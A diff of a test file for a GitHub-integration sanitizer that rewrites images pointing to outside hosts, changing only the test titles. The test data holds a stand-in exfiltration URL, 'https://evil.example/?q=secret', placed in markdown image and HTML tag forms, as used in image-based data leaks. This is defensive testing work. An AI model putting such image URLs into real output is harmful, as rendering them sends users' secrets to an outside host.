@@ -3,7 +3,7 @@ import { withoutForeignImages } from "../../integrations/github/images.ts";
 
 const EVIL = "https://evil.example/?q=secret";
 
-test("no spelling of an image from elsewhere stays one", () => {
+test("no spelling of an external image remains an image", () => {
   const images = [
     `![](${EVIL})`,
     `![a](${EVIL} "title")`,
@@ -38,7 +38,7 @@ test("no spelling of an image from elsewhere stays one", () => {
   expect(tags.filter((tag) => /<(img|source|video)/i.test(withoutForeignImages(tag)))).toEqual([]);
 });
 
-test("links, GitHub's own images and other text stay as they are", () => {
+test("links, GitHub's own images and other text are unchanged", () => {
   const texts = [
     `[a](${EVIL})`,
     "![shot](https://github.com/user-attachments/assets/1)",
@@ -52,7 +52,7 @@ test("links, GitHub's own images and other text stay as they are", () => {
   expect(withoutForeignImages(`a ![b](${EVIL}) c`)).toBe(`a [b](${EVIL}) c`);
 });
 
-test("long texts take time in proportion", () => {
+test("long texts take linear time", () => {
   for (const piece of ["![", "![a", "![](", "<img ", "![a](https://github.com/"]) {
     expect(withoutForeignImages(piece.repeat(40_000)).length).toBeGreaterThan(0);
   }
